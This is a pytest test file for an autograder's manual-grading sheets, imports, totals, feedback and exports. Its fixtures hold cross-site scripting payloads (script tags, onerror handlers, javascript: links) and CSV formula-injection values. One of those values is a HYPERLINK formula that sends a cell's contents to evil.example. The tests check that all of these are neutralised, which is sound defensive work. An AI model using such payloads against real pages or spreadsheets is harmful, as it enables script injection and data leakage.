"""Grading written answers by hand: sheets, import, totals, feedback, exports, safety.

The grade folder comes from the real pipeline (ReadNotebook, ClearOutputs, RestoreCells,
ScoreCells) on a toy assignment with one autograded cell and two written answers; a
stand-in for Execute marks each test cell as run cleanly or not and gives a scratch cell a
plot, so no kernel or judge starts (the whole file takes about a second per backend).
Totals are checked against sums written out by hand from the points entered.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import html.parser
import json
import shutil
from pathlib import Path

import nbformat
import pytest
from ssl_keras_autograder import notebook as nb
from ssl_keras_autograder import rendering
from ssl_keras_autograder.__main__ import main
from ssl_keras_autograder.config import Assignment, GradeConfig
from ssl_keras_autograder.export import export_grades
from ssl_keras_autograder.feedback import write_feedback
from ssl_keras_autograder.grade import grade_submissions
from ssl_keras_autograder.manual import COLUMNS
from ssl_keras_autograder.notebook import SourceNotebook
from ssl_keras_autograder.steps import ClearOutputs, ReadNotebook, RestoreCells, ScoreCells, Step
from ssl_keras_autograder.submissions import collect

from assignments import notebook_builder as builder

PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJ"
       "RU5ErkJggg==")
HOSTILE = ('<script>alert("xss")</script> <img src=x onerror=alert(1)>\n\n'
           "[click me](javascript:alert(1)) ![i](javascript:alert(4))\n\n"
           "$</span><script>alert(2)</script>$")
ANSWERS = {  # student: (square's body, why, derivation, test cell ran cleanly)
    "alice": ("return x ** 2", "Because $x^2 \\geq 0$ for **every** real $x$.",
              "$$\\frac{e^{s/\\tau}}{\\sum_k e^{s_k/\\tau}}$$\n\n![my plot](attachment:p.png)",
              True),
    "bob": ("return x * 2", HOSTILE, "[x](JaVaScRiPt:alert(3)) <a href='javascript:x'>y</a>"
            "\n\n![tracker](https://example.org/pixel.png)", False),
    "carol": (None, None, None, False),  # left the stubs
}
AUTOGRADED = {"alice": 2.0, "bob": 0.0, "carol": 0.0}  # square_tests, 2 points


def source_cells() -> list[dict]:
    return [
        builder.markdown("# Toy with written answers"),
        builder.solution("def square(x):\n    ### BEGIN SOLUTION\n    return x ** 2\n"
                 "    ### END SOLUTION", "square"),
        builder.tests("assert square(3) == 9", "square_tests", 2),
        builder.markdown("**Question 1 (1 P).** Why is a square never negative?"),
        builder.written_answer("why", 1, "Because $x \\cdot x = |x|^2$."),
        builder.markdown("**Question 2 (2 P).** Write the softmax over similarities."),
        builder.written_answer("derivation", 2, "$$p_k = e^{s_k/\\tau} / Z$$"),
    ]


def submission(student: str) -> dict:
    square, why, derivation, _ = ANSWERS[student]
    cells = []
    for cell in source_cells():
        cell = json.loads(json.dumps(cell))
        cell["source"] = nb.student_version(cell)
        grade_id = nb.grade_id(cell)
        if grade_id == "square" and square:
            cell["source"] = "def square(x):\n    " + square
        if grade_id == "why" and why:
            cell["source"] = why
        if grade_id == "derivation" and derivation:
            cell["source"] = derivation
            cell["attachments"] = {"p.png": {"image/png": PNG}}  # a plot pasted in
        cell["id"] = grade_id or f"cell-{len(cells)}"
        cells.append(cell)
        if grade_id == "why" and student == "alice":  # a plot of her own, right after
            cells.append(nbformat.v4.new_code_cell("# plot\nplt.plot(x, x ** 2)"))
    notebook = nbformat.v4.new_notebook(cells=[nbformat.from_dict(c) for c in cells])
    return notebook


class StandInExecute(Step):
    """Execute without a kernel: test cells ran cleanly or not, `# plot` cells drew a PNG."""

    phase = "execute"

    def run(self, submission, assignment, config):
        executed = nbformat.from_dict(json.loads(json.dumps(submission.notebook)))
        for cell in executed.cells:
            if nb.is_autograded_test(cell):
                clean = ANSWERS[submission.student][3]
                cell.metadata[nb.GRADER_METADATA] = (
                    {"status": "ok"} if clean else
                    {"status": "error", "ename": "AssertionError", "evalue": ""})
            elif cell.cell_type == "code" and cell.source.startswith("# plot"):
                cell.outputs = [nbformat.v4.new_output(
                    "display_data", data={"image/png": PNG, "text/plain": "<Figure>"})]
        submission.executed = executed


STEPS = [ReadNotebook(), ClearOutputs(), RestoreCells(), StandInExecute(), ScoreCells()]


def grade(root: Path, out: Path) -> None:
    assignment = Assignment("toy_manual", SourceNotebook.load(
        "toy_manual", root / "source.ipynb"), judge=None, data_files=[])
    grade_submissions(assignment, collect(root / "submissions", "toy_manual"), out,
                      GradeConfig(jobs=1), steps=STEPS)


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("manual")
    builder.write_notebook(source_cells(), root / "source.ipynb")
    (root / "submissions").mkdir()
    for student in ANSWERS:
        nbformat.write(submission(student), root / "submissions" / f"{student}.ipynb")
    grade(root, root / "graded")
    return root


@pytest.fixture
def root(pristine, tmp_path) -> Path:
    shutil.copytree(pristine, tmp_path / "course")
    return tmp_path / "course"


def sheets(root: Path) -> Path:
    out = root / "sheets"
    assert main(["manual", "sheets", str(root / "graded"), "--out", str(out),
                 "--source", str(root / "source.ipynb")]) == 0
    return out


def fill(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", newline="") as handle:
        csv.writer(handle).writerows([list(COLUMNS), *rows])
    return path


def grades(root: Path) -> dict[str, dict]:
    with open(root / "graded" / "grades.csv", newline="") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


ENTERED = [  # student, question, points, max_points, comment
    ["alice", "why", "1", "1", "clear, with the right inequality"],
    ["bob", "why", "0.5", "1", "half: no reason given"],
    ["carol", "why", "", "1", ""],  # still pending
]
ENTERED_DERIVATION = [["alice", "derivation", "2", "2", ""]]
# by hand: autograded + manual so far; max: 2 autograded + the maxima of graded answers
EXPECTED = {
    "alice": {"total": 2 + 1 + 2, "max_total": 2 + 1 + 2, "manual_pending": 0,
              "why": "1", "derivation": "2"},
    "bob": {"total": 0 + 0.5, "max_total": 2 + 1, "manual_pending": 2,
            "why": "0.5", "derivation": ""},
    "carol": {"total": 0, "max_total": 2, "manual_pending": 1 + 2, "why": "", "derivation": ""},
}


def import_all(root: Path) -> None:
    why = fill(root / "why.csv", ENTERED)
    derivation = fill(root / "derivation.csv", ENTERED_DERIVATION)
    assert main(["manual", "import", str(root / "graded"), str(why), str(derivation)]) == 0


def check_totals(rows: dict[str, dict]) -> None:
    assert set(rows) == set(EXPECTED)
    for student, expected in EXPECTED.items():
        row = rows[student]
        assert float(row["total"]) == expected["total"], (student, row)
        assert float(row["max_total"]) == expected["max_total"], (student, row)
        assert float(row["manual_pending"]) == expected["manual_pending"], (student, row)
        assert (row["why"], row["derivation"]) == (expected["why"], expected["derivation"])
        assert float(row["square_tests"]) == AUTOGRADED[student]


def test_before_any_manual_grade_all_written_answers_are_pending(root):
    rows = grades(root)
    for student, points in AUTOGRADED.items():
        assert float(rows[student]["total"]) == points
        assert float(rows[student]["max_total"]) == 2
        assert float(rows[student]["manual_pending"]) == 1 + 2
        assert rows[student]["why"] == rows[student]["derivation"] == ""


def test_sheets_show_every_answer_side_by_side(root):
    out = sheets(root)
    assert {p.name for p in out.iterdir()} == {
        "index.html", "why.html", "why.csv", "derivation.html", "derivation.csv"}
    page = (out / "why.html").read_text()
    for student in ANSWERS:
        assert f"<h3>{student}</h3>" in page
    assert "<strong>every</strong>" in page  # markdown rendered
    assert "\\(x^2 \\geq 0\\)" in page  # TeX kept readable for KaTeX (or without it)
    assert f"data:image/png;base64,{PNG}" in page  # alice's plot in the cell after
    assert "Why is a square never negative?" in page  # the question
    assert "model answer" in page and "|x|^2" in page
    assert "(no answer)" in page  # carol
    assert "katex.render" in page and "katex.min.js" in page
    derivation = (out / "derivation.html").read_text()
    assert "\\frac{e^{s/\\tau}}" in derivation
    assert f'<img src="data:image/png;base64,{PNG}" alt="my plot" />' in derivation
    assert "[image: tracker]" in derivation and "example.org" not in derivation
    with open(out / "why.csv", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["student", "question", "points", "max_points", "comment",
                       "answer_changed", "answer_digest"]
    assert sorted(row[:6] for row in rows[1:]) == [[s, "why", "", "1", "", ""]
                                                   for s in sorted(ANSWERS)]
    digests = {row[0]: row[6] for row in rows[1:]}  # the version of each answer shown
    assert len(set(digests.values())) == 3 and all(len(d) == 16 for d in digests.values())


def test_import_puts_manual_points_in_the_totals(root, capsys):
    import_all(root)
    assert "imported 3 grades" in capsys.readouterr().out
    check_totals(grades(root))
    stored = json.loads((root / "graded" / "manual.json").read_text())["grades"]
    assert stored["alice"]["why"]["points"] == 1.0
    assert stored["bob"]["why"]["comment"] == "half: no reason given"
    assert "carol" not in stored
    # a new sheet shows what was entered; a later import replaces a question's points
    out = sheets(root)
    with open(out / "why.csv", newline="") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    assert (rows["bob"]["points"], rows["carol"]["points"]) == ("0.5", "")
    assert "graded: 0.5 / 1" in (out / "why.html").read_text()
    index = (out / "index.html").read_text()
    assert "why</a> (1 points; graded for 2 of 3)" in index
    assert "derivation</a> (2 points; graded for 1 of 3)" in index
    fill(root / "again.csv", [["bob", "why", "1", "1", "on second reading, fine"]])
    assert main(["manual", "import", str(root / "graded"), str(root / "again.csv")]) == 0
    rows = grades(root)
    assert float(rows["bob"]["total"]) == 1 and rows["alice"]["why"] == "1"


def test_sheets_never_overwrite_points_that_were_not_imported(root, caplog):
    out = sheets(root)
    fill(out / "why.csv", ENTERED)  # filled in, not imported yet
    filled = (out / "why.csv").read_bytes()
    out = sheets(root)
    assert (out / "why.csv").read_bytes() == filled
    assert "kept" in caplog.text and "why.csv" in caplog.text
    assert main(["manual", "import", str(root / "graded"), str(out / "why.csv")]) == 0
    sheets(root)  # now nothing is lost: a fresh sheet, with the imported points
    with open(out / "why.csv", newline="") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    assert (rows["alice"]["points"], rows["bob"]["comment"]) == ("1", "half: no reason given")


def test_feedback_pages_show_manual_points_and_comments(root):
    import_all(root)
    pages = {p.stem: p.read_text() for p in write_feedback(
        root / "graded", root / "feedback", source=root / "source.ipynb")}
    assert "Score: 5 / 5" in pages["alice"]
    assert "clear, with the right inequality" in pages["alice"]
    assert "<strong>every</strong>" in pages["alice"]  # markdown rendered
    assert "Score: 0.5 / 3" in pages["bob"] and "0.5 / 1" in pages["bob"]
    assert "half: no reason given" in pages["bob"]
    assert "plus 2 points still to be graded by hand" in pages["bob"]
    assert "plus 3 points still to be graded by hand" in pages["carol"]
    assert "model answer" not in pages["alice"] and "|x|^2" not in pages["alice"]


def test_every_export_has_the_manual_points(root):
    import_all(root)
    export_grades(root / "graded", root / "export", formats=("all",))
    with open(root / "export" / "gradebook.csv", newline="") as handle:
        check_totals({row["student"]: row for row in csv.DictReader(handle)})
    alice = json.loads((root / "export" / "gradescope" / "alice" / "results.json").read_text())
    assert (alice["score"], alice["max_score"]) == (5, 5)
    tests = {test["name"]: test for test in alice["tests"]}
    assert set(tests) == {"square_tests", "why", "derivation"}
    assert (tests["why"]["score"], tests["why"]["max_score"]) == (1, 1)
    assert tests["why"]["output"] == "clear, with the right inequality"
    bob = json.loads((root / "export" / "gradescope" / "bob" / "results.json").read_text())
    assert (bob["score"], bob["max_score"]) == (0.5, 3)
    assert {test["name"] for test in bob["tests"]} == {"square_tests", "why"}
    assert "2 more points are graded by hand" in bob["output"]
    classroom = json.loads((root / "export" / "classroom" / "alice.json").read_text())
    assert classroom["status"] == "pass" and classroom["max_score"] == 5
    assert sum(test["score"] for test in classroom["tests"]) == 5
    carol = json.loads((root / "export" / "classroom" / "carol.json").read_text())
    assert [test["name"] for test in carol["tests"]] == ["square_tests"]


def test_regrading_the_code_keeps_the_manual_points(root):
    import_all(root)
    manual = (root / "graded" / "manual.json").read_bytes()
    grade(root, root / "graded")
    assert (root / "graded" / "manual.json").read_bytes() == manual
    check_totals(grades(root))
    assert all(row["manual_stale"] == "" for row in grades(root).values())  # same answers


def resubmit(root: Path, student: str, changes: dict[str, str]) -> None:
    """The student hands in again, with the cells named in `changes` ({grade_id or "plot"
    for the `# plot` cell: new source}) rewritten, and the course regrades everyone."""
    path = root / "submissions" / f"{student}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    for cell in notebook.cells:
        key = nb.grade_id(cell) or ("plot" if cell.source.startswith("# plot") else None)
        if key in changes:
            cell.source = changes[key]
    nbformat.write(notebook, path)
    grade(root, root / "graded")


def sheet_rows(out: Path, question: str) -> dict[str, dict]:
    with open(out / f"{question}.csv", newline="") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


def test_a_changed_answer_keeps_its_points_but_is_flagged_until_re_read(root, capsys):
    import_all(root)
    resubmit(root, "bob", {"why": "Because a square is a product of two equal factors."})
    resubmit(root, "alice", {"plot": "# plot\nplt.plot(x, -x ** 2)"})  # the plot she shows
    rows = grades(root)
    assert (rows["bob"]["manual_stale"], rows["alice"]["manual_stale"]) == ("why", "why")
    assert rows["carol"]["manual_stale"] == ""
    # the points stay in the totals until the grader looks again; other answers unflagged
    assert float(rows["bob"]["total"]) == 0.5 and float(rows["alice"]["total"]) == 5
    assert rows["bob"]["why"] == "0.5" and rows["alice"]["derivation"] == "2"
    capsys.readouterr()
    out = sheets(root)
    printed = capsys.readouterr().out
    assert "RE-READ bob / why: the answer changed since it was graded (0.5 points kept" in (
        printed)
    assert "RE-READ alice / why" in printed and "/ derivation" not in printed
    page = (out / "why.html").read_text()
    assert page.count("<div class='stale'>") == 2 and "Because a square is a product" in page
    assert "2 answers changed since graded" in (out / "index.html").read_text()
    flagged = sheet_rows(out, "why")
    assert [flagged[s]["answer_changed"] for s in ("alice", "bob", "carol")] == ["yes", "yes", ""]
    # importing the sheet as it is confirms nothing: nobody re-read these answers
    assert main(["manual", "import", str(root / "graded"), str(out / "why.csv")]) == 0
    assert "RE-READ bob / why" in capsys.readouterr().out
    assert grades(root)["bob"]["manual_stale"] == "why"
    # re-read: bob gets new points, alice keeps hers (answer_changed emptied)
    rows = [[flagged[s][c] for c in COLUMNS] for s in ("alice", "bob")]
    rows[0][5] = ""
    rows[1][2:6] = ["1", "1", "better now", "yes"]
    assert main(["manual", "import", str(root / "graded"), str(fill(root / "re.csv", rows))]) == 0
    assert "RE-READ" not in capsys.readouterr().out
    rows = grades(root)
    assert (rows["alice"]["manual_stale"], rows["bob"]["manual_stale"]) == ("", "")
    assert (rows["alice"]["why"], rows["bob"]["why"]) == ("1", "1")


def test_points_entered_on_a_sheet_of_an_earlier_answer_are_flagged(root, capsys):
    out = sheets(root)  # carol's empty stub is on this sheet
    resubmit(root, "carol", {"why": "Squares of reals are non-negative."})
    row = [sheet_rows(out, "why")["carol"][c] for c in COLUMNS]
    row[2] = "0"  # graded the empty answer the sheet showed
    assert main(["manual", "import", str(root / "graded"), str(fill(root / "c.csv", [row]))]) == 0
    assert "RE-READ carol / why" in capsys.readouterr().out
    assert grades(root)["carol"]["manual_stale"] == "why"


HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1 for effort",
                 "-1: units missing", "@SUM(A1:A9)", "'a quote, no formula", "=1+1\nsecond line"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(path: Path) -> list[str]:
    with open(path, newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _stored(root: Path, key: str) -> dict:
    grades = json.loads((root / "graded" / "manual.json").read_text())["grades"]
    return {student: {q: entry[key] for q, entry in given.items()}
            for student, given in grades.items()}


def test_no_csv_cell_starts_like_a_formula_and_comments_round_trip(root):
    """OWASP's CSV injection rule for every CSV a spreadsheet may open; the sheets read
    back as the grader typed them."""
    graded = root / "graded"
    result = json.loads((graded / "results" / "bob.json").read_text())
    result["student"] = "-bob"  # a safe file name may start with - or @
    (graded / "results" / "-bob.json").write_text(json.dumps(result))
    (graded / "results" / "bob.json").unlink()
    (graded / "executed" / "bob.ipynb").rename(graded / "executed" / "-bob.ipynb")
    students = ("alice", "-bob", "carol")
    expected = {student: {"why": HOSTILE_CELLS[2 * i], "derivation": HOSTILE_CELLS[2 * i + 1]}
                for i, student in enumerate(students)}
    rows = [[student, question, "1" if question == "why" else "2", "", comment]
            for student, given in expected.items() for question, comment in given.items()]
    assert main(["manual", "import", str(graded), str(fill(root / "s.csv", rows))]) == 0
    assert _stored(root, "comment") == expected
    out = sheets(root)
    export_grades(graded, root / "export", formats=("csv",))
    for path in (out / "why.csv", out / "derivation.csv", graded / "grades.csv",
                 root / "export" / "gradebook.csv"):
        for cell in _csv_cells(path):
            assert not cell.startswith(FORMULA_START), (path.name, cell)
    assert "'-bob" in _csv_cells(graded / "grades.csv")
    assert "'" + HOSTILE_CELLS[0] in _csv_cells(out / "why.csv")
    assert "'a quote, no formula" in _csv_cells(out / "why.csv")  # left as it is
    assert "'=1+1\nsecond line" in _csv_cells(out / "derivation.csv")
    # the regenerated sheets, imported again, change nothing
    points = _stored(root, "points")
    assert main(["manual", "import", str(graded), str(out / "why.csv"),
                 str(out / "derivation.csv")]) == 0
    assert (_stored(root, "comment"), _stored(root, "points")) == (expected, points)


@pytest.mark.parametrize("text", ["", "a", "1", "-0.5", "'", "''", "'a", "=", "'=", "''=x",
                                  "\tx", "\rx", "@", "+", "é=", " =x"])
def test_the_formula_guard_is_undone_exactly(text):
    from ssl_keras_autograder.gradebook import from_spreadsheet_text, spreadsheet_text

    written = spreadsheet_text(text)
    assert not written.startswith(FORMULA_START)
    assert from_spreadsheet_text(written) == text
    assert written == ("'" + text if text.lstrip("'").startswith(FORMULA_START) else text)


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else "absent"


@pytest.mark.parametrize(("row", "problem"), [
    (["dave", "why", "1", "1", ""], "unknown student 'dave'"),
    (["alice", "how", "1", "1", ""], "unknown question 'how'"),
    (["alice", "why", "one", "1", ""], "points 'one' is not a number"),
    (["alice", "why", "nan", "1", ""], "points 'nan' is not a number"),
    (["alice", "why", "-0.5", "1", ""], "points -0.5 is negative"),
    (["alice", "why", "1.5", "1", ""], "points 1.5 is above the maximum 1 of why"),
    (["alice", "why", "1", "3", ""], "max_points '3' is not the 1 points of why"),
    (["alice", "why", "", "1", "good"], "a comment but no points"),
    (["bob", "why", "0", "1", "twice"], "bob / why is given twice (first at "),
])
def test_a_wrong_row_names_file_and_line_and_nothing_is_written(root, capsys, row, problem):
    before = _digest(root / "graded" / "grades.csv")
    path = fill(root / "scores.csv", [ENTERED[1], ENTERED[2], row])  # bob, carol, row
    assert main(["manual", "import", str(root / "graded"), str(path)]) == 2
    error = capsys.readouterr().err
    assert f"{path}, line 4: {problem}" in error, error
    assert "nothing was imported" in error
    assert not (root / "graded" / "manual.json").exists()
    assert _digest(root / "graded" / "grades.csv") == before


def test_duplicates_across_files_and_bad_headers_are_refused(root, capsys):
    first = fill(root / "a.csv", [ENTERED[0]])
    second = fill(root / "b.csv", [ENTERED[1], ENTERED[0]])
    assert main(["manual", "import", str(root / "graded"), str(first), str(second)]) == 2
    assert f"{second}, line 3: alice / why is given twice (first at {first}, line 2)" in (
        capsys.readouterr().err)
    (root / "c.csv").write_text("name,score\nalice,1\n")
    assert main(["manual", "import", str(root / "graded"), str(root / "c.csv")]) == 2
    assert "line 1: the header has no column student, question, points" in (
        capsys.readouterr().err)
    assert not (root / "graded" / "manual.json").exists()


class _Elements(html.parser.HTMLParser):
    """Every start tag with its attributes, as a browser's parser would see them."""

    def __init__(self):
        super().__init__()
        self.tags, self.scripts, self._in_script = [], [], False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def _assert_runs_nothing(page: str) -> None:
    parser = _Elements()
    parser.feed(page)
    for tag, attributes in parser.tags:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        for name in ("href", "src"):
            url = "".join((attributes.get(name) or "").split()).lower()
            assert not url.startswith(("javascript:", "vbscript:", "data:text")), (tag, url)
        if tag == "img":
            assert attributes["src"].startswith("data:image/"), attributes
        if tag == "script" and "src" in attributes:  # KaTeX from the CDN only, pinned
            assert attributes["src"].startswith(rendering.KATEX + "/"), attributes
            assert attributes["integrity"].startswith("sha384-"), attributes
    assert [tag for tag, _ in parser.tags].count("script") == 2
    assert parser.scripts == [rendering.RENDER_MATH]  # the one inline script: the page's
    meta = [a for tag, a in parser.tags if tag == "meta" and a.get("http-equiv")]
    assert meta and "script-src" in meta[0]["content"] and "img-src data:" in meta[0]["content"]


def test_hostile_answers_are_shown_as_text_and_run_nothing(root):
    import_all(root)
    out = sheets(root)
    pages = {"why sheet": (out / "why.html").read_text(),
             "derivation sheet": (out / "derivation.html").read_text()}
    for page in write_feedback(root / "graded", root / "feedback", source=root / "source.ipynb"):
        pages[page.stem] = page.read_text()
    for name, page in pages.items():
        _assert_runs_nothing(page)
    for name in ("why sheet", "bob"):
        assert "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;" in pages[name]
        assert "&lt;img src=x onerror=alert(1)&gt;" in pages[name]
        assert '<a href="#harmful-link">click me</a>' in pages[name]  # the text stays
        assert "\\(&lt;/span&gt;&lt;script&gt;alert(2)&lt;/script&gt;\\)" in pages[name]
    for name in ("derivation sheet", "bob"):
        assert '<a href="#harmful-link">x</a>' in pages[name]
        assert "&lt;a href='javascript:x'&gt;y&lt;/a&gt;" in pages[name]


# The integrity attributes KaTeX's README publishes for its release (the oracle; the hashes
# in rendering.py were computed from the npm tarball): a new KATEX_VERSION needs its row.
KATEX_README = {
    "0.16.11": {
        "katex.min.css": "sha384-nB0miv6/jRmo5UMMR1wu3Gz6NLsoTkbqJghGIsx//Rlm+ZU03BU6SQNC66uf4l5+",
        "katex.min.js": "sha384-7zkQWkzuo3B5mTepMUcHkMB5jZaolc2xDwL6VFqjFALcbeS9Ggm/Yr2r3Dy4lfFg",
    },
}


def test_katex_from_the_cdn_carries_subresource_integrity():
    parser = _Elements()
    parser.feed(rendering.head("page"))
    loaded = {}
    for tag, attributes in parser.tags:
        url = attributes.get("src") if tag == "script" else attributes.get("href")
        if tag not in ("script", "link") or not url:
            continue
        assert url.startswith(f"https://cdn.jsdelivr.net/npm/katex@{rendering.KATEX_VERSION}/")
        assert attributes.get("crossorigin") == "anonymous", attributes  # SRI needs CORS
        algorithm, _, digest = attributes.get("integrity", "").partition("-")
        assert algorithm == "sha384", attributes
        assert len(base64.b64decode(digest, validate=True)) == 48, attributes
        loaded[url.rpartition("/")[2]] = attributes["integrity"]
    assert loaded == KATEX_README[rendering.KATEX_VERSION]
    assert [tag for tag, a in parser.tags if tag == "link" and a.get("rel") == "stylesheet"]


def test_markdown_without_scripts_still_reads():
    text = rendering.markdown_html("**bold** and $\\tau < 1$ and `$kept$`\n\n$$a_1 + b_2$$")
    assert "<strong>bold</strong>" in text
    assert "\\(\\tau &lt; 1\\)" in text  # readable TeX between delimiters, escaped
    assert "<code>$kept$</code>" in text  # no math inside code
    assert "a_1 + b_2" in text and "<em>" not in text  # underscores in math stay TeX
    # inline math over a line break, as Jupyter reads it; prices are no math
    text = rendering.markdown_html("so $a =\nb_1$ holds; costs $5\nand $6 each")
    assert "\\(a =\nb_1\\)" in text and "costs $5\nand $6 each" in text


def test_manual_command_has_help(capsys):
    for argv in (["manual", "--help"], ["manual", "sheets", "--help"],
                 ["manual", "import", "--help"]):
        with pytest.raises(SystemExit):
            main(argv)
        assert "usage: python -m autograder manual" in capsys.readouterr().out
